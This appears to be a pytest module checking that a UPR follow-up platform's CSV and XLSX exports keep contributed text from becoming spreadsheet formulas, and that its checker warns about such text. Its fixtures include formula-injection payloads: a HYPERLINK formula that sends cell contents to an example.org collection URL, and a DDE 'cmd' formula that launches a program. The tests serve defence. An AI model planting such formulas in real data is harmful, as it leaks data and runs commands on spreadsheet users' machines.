"""Case 38 (issue 13, class 4): contributed text never becomes a spreadsheet formula.

The case's input is a coalition's assessments of Kenya's fourth-cycle recommendations as
one YAML file (a layout the platform does not use). The platform keeps each assessment
as ``states/followup/<iso3>/<date>-<slug>.md`` (upr.followup), so the fixture below puts
each ``note`` in the narrative of one assessment of a fixture recommendation
KEN-49-<paragraph>, and the coalition's two contact values where text of an assessment
reaches a spreadsheet cell too: the handle as ``assessed_by`` of the first two
assessments, the phone number as ``assessed_by`` of the third. The five values of the
case thus reach the CSV and XLSX exports, byte for byte as the YAML holds them.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import yaml
from conftest import CASES, TODAY, run_upr

from upr import exports, followup, recommendations
from upr.config import settings
from upr.content import Content, load_content
from upr.problems import WARNING

CASE = CASES / "38-spreadsheet-formula-injection" / "input" / "data" / "assessments" / "KEN-cycle4.yaml"
STATUS = {"partially-implemented": "partially implemented", "not-implemented": "not implemented",
          "implemented": "implemented"}
REC_HEADER = ",".join(recommendations.COLUMNS)


def case_values() -> dict:
    return yaml.safe_load(CASE.read_text(encoding="utf-8"))


def risky_values() -> list[str]:
    data = case_values()
    return [a["note"] for a in data["assessments"]] + [data["contact_phone"], data["contact_social"]]


def kenya_repo(tmp_path: Path) -> Path:
    """A repository with three fixture recommendations to Kenya and the case's
    assessments as follow-up files (see the module docstring)."""
    data = case_values()
    root = tmp_path / "repo"
    (root / "states" / "recommendations").mkdir(parents=True)
    (root / "mkdocs.yml").write_text("site_name: fixture\n", encoding="utf-8")
    rows = [REC_HEADER]
    for a in data["assessments"]:
        paragraph = a["id"]
        rows.append(f"KEN-49-{paragraph},KEN,4,49,{paragraph},Fixture recommendation {paragraph},NOR,supported,,"
                    f"Women's rights,,,fixture,A/HRC/59/1,fixture" + "," * (len(recommendations.COLUMNS) - 15))
    (root / "states" / "recommendations" / "ken.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    folder = root / "states" / "followup" / "ken"
    folder.mkdir(parents=True)
    by = [data["contact_social"], data["contact_social"], data["contact_phone"]]
    for n, (a, who) in enumerate(zip(data["assessments"], by), start=1):
        front = yaml.safe_dump({"recommendations": [f"KEN-49-{a['id']}"], "status": STATUS[a["status"]],
                                "date": f"2026-0{n}-01", "assessed_by": who, "sources": ["A/HRC/59/1"]},
                               allow_unicode=True, sort_keys=False)
        (folder / f"2026-0{n}-01-note-{n}.md").write_text(f"---\n{front}---\n\n{a['note']}\n", encoding="utf-8")
    return root


def load(root: Path):
    s = settings(root, TODAY)
    content = Content(settings=s)
    corpus, p1 = recommendations.load(s, content)
    content.kinds["recommendations"] = corpus
    fu, p2 = followup.load(s, content)
    assert not [p for p in p1 + p2 if p.severity != WARNING], [p.format() for p in p1 + p2]
    return corpus.by_state["KEN"], fu.public


def test_the_fixture_carries_the_five_values_of_the_case(tmp_path):
    recs, fu = load(kenya_repo(tmp_path))
    values = {fu.current(r.id).body for r in recs} | {fu.current(r.id).assessed_by for r in recs}
    assert values == set(risky_values())
    assert len(risky_values()) == 5


def test_xlsx_round_trip_has_no_formula_and_the_values_of_the_yaml(tmp_path):
    recs, fu = load(kenya_repo(tmp_path))
    raw = exports.to_xlsx(recs, fu, "KEN")
    ws = openpyxl.load_workbook(io.BytesIO(raw))["KEN"]  # not read-only: data_type is the cell's own
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in ws[1]]
    narrative, by = header.index("assessment_narrative"), header.index("assessed_by")
    got = [ws.cell(row=r, column=col + 1) for r in range(2, ws.max_row + 1) for col in (narrative, by)]
    assert sorted(c.value for c in got) == sorted(risky_values() + [case_values()["contact_social"]])
    assert {c.data_type for c in got} == {"s"}
    # what a spreadsheet would have run is kept as text, and editing the cell keeps it text
    formula = next(c for c in got if c.value.startswith("="))
    assert formula.value == '=HYPERLINK("https://example.org/collect?d="&A1,"Open the evidence folder")'
    assert formula.quotePrefix is True
    # the raw XML: an inline string, no <f> element anywhere
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_a_formula_in_any_text_column_is_a_string_cell():
    """Not only the new narrative column: the organisation and the imported recommendation
    text (which a pull request can edit) are text cells too."""
    import datetime as dt
    rec = recommendations.Recommendation("KEN-49-139.13", "KEN", 4, 49, "139.13", "=1+1", ["NOR"], "supported",
                                         None, ["@SUM(A1)"], [], [], "fixture", "A/HRC/59/1", "fixture", line=2)
    fu = followup.FollowUp.of([followup.Assessment(
        "states/followup/ken/a.md", "KEN", "a", ["KEN-49-139.13"], "implemented", dt.date(2026, 1, 5),
        '=HYPERLINK("https://example.org/?d="&A1,"Open")', ["A/HRC/59/1"], "Done.")])
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([rec], fu, "KEN")))["KEN"]
    row = {h.value: c for h, c in zip(ws[1], ws[2])}
    assert [(row[k].value, row[k].data_type) for k in ("text", "issues", "assessed_by")] == [
        ("=1+1", "s"), ("@SUM(A1)", "s"), ('=HYPERLINK("https://example.org/?d="&A1,"Open")', "s")]


def test_spreadsheet_csv_prefixes_the_five_risky_values_and_nothing_else(tmp_path):
    recs, fu = load(kenya_repo(tmp_path))
    raw = exports.to_csv(recs, fu)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    written = [r["assessment_narrative"] for r in rows] + [r["assessed_by"] for r in rows]
    expected = risky_values() + [case_values()["contact_social"]]
    assert sorted(written) == sorted("'" + v for v in expected)
    # every other value is unchanged: the text, the paragraph, the numbers
    row = rows[0]
    assert (row["id"], row["cycle"], row["session"], row["paragraph"], row["assessments"]) == \
        ("KEN-49-139.12", "4", "49", "139.12", "1")
    assert row["text"] == "Fixture recommendation 139.12"


def test_csv_prefix_covers_tab_and_carriage_return_and_leaves_numbers_alone():
    from upr.spreadsheet import csv_row
    row = csv_row(["=1+1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", None, "-5"], numeric={9})
    assert row == ["'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\nx", "a=1", "", "", "-5"]


def test_json_keeps_the_raw_text_and_says_which_fields_hold_markdown(tmp_path):
    recs, fu = load(kenya_repo(tmp_path))
    data = json.loads(exports.to_json(recs, fu))
    assert data["fields"]["assessments[].narrative"] == "markdown"
    assert data["fields"]["text"] == "text"
    assert "not" in data["about"] and "spreadsheet" in data["about"]
    narratives = {a["narrative"] for r in data["recommendations"] for a in r["assessments"]}
    assert narratives == {a["note"] for a in case_values()["assessments"]}  # not prefixed, not escaped


def test_the_fields_block_describes_every_field_of_the_records(tmp_path):
    recs, fu = load(kenya_repo(tmp_path))
    record = json.loads(exports.to_json(recs, fu))["recommendations"][0]
    keys = set(record) | {f"assessments[].{k}" for k in record["assessments"][0]}
    assert keys == set(exports.FIELDS)


def test_excel_error_values_stay_text():
    from openpyxl import Workbook

    from upr.spreadsheet import xlsx_row
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append(xlsx_row(ws, ["#N/A", 7, "plain", "@SUM(A1)", None, "#REF!"]))
    buf = io.BytesIO()
    wb.save(buf)
    row = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["S"].iter_rows())[0]
    assert [(c.value, c.data_type) for c in row] == [
        ("#N/A", "s"), (7, "n"), ("plain", "s"), ("@SUM(A1)", "s"), (None, "n"), ("#REF!", "s")]


def test_upr_check_warns_on_a_formula_with_file_and_line(tmp_path):
    root = kenya_repo(tmp_path)
    result = run_upr("check", cwd=root, env={"UPR_ROOT": str(root)})
    warnings = [ln for ln in result.stdout.splitlines() if "spreadsheet formula" in ln]
    assert warnings == [
        'states/followup/ken/2026-02-01-note-2.md:11: warning: the text starts with "=" (HYPERLINK) and looks like '
        "a spreadsheet formula — write plain text (begin with a word): the site's Excel and CSV downloads show it "
        "as text, but whoever copies it into a spreadsheet would run it"]
    # the dash, the plus sign, the phone number and the handle are ordinary text: no warning


def test_upr_check_warns_on_formulas_in_yaml_values_and_imported_rows(tmp_path):
    root = kenya_repo(tmp_path)
    note = root / "states" / "followup" / "ken" / "2026-01-01-note-1.md"
    note.write_text(note.read_text(encoding="utf-8").replace(
        "assessed_by: '@KenyaUPRCoalition'", "assessed_by: \"=cmd|' /C calc'!A0\""), encoding="utf-8")
    table = root / "states" / "recommendations" / "ken.csv"
    table.write_text(table.read_text(encoding="utf-8").replace(
        "Fixture recommendation 139.20", '"+HYPERLINK(""https://example.org"")"'), encoding="utf-8")
    content = load_content(settings(root, TODAY))
    found = sorted(p.format().split(" — ")[0] for p in content.problems if "spreadsheet formula" in p.message)
    assert found == [
        'states/followup/ken/2026-01-01-note-1.md:6: warning: assessed_by starts with "=" (a link to another '
        'program) and looks like a spreadsheet formula',
        'states/followup/ken/2026-02-01-note-2.md:11: warning: the text starts with "=" (HYPERLINK) and looks like '
        'a spreadsheet formula',
        'states/recommendations/ken.csv:4: warning: text starts with "+" (HYPERLINK) and looks like a spreadsheet '
        'formula',
    ]


def test_the_download_note_says_what_each_format_is_for():
    from conftest import ROOT
    from upr import catalogs, i18n
    # the note of the recommendations index (templates/pages/recommendations_index.md.j2)
    [DOWNLOAD_NOTE] = [msgid for _, msgid in catalogs.extract(ROOT) if msgid.startswith("Columns: those of")]
    for lang in ("en", "fr", "es"):
        note = i18n.gettext(lang, DOWNLOAD_NOTE)
        assert lang == "en" or note != DOWNLOAD_NOTE, lang  # translated in the catalogs
        assert "'" in note and "JSON" in note and "Markdown" in note, lang
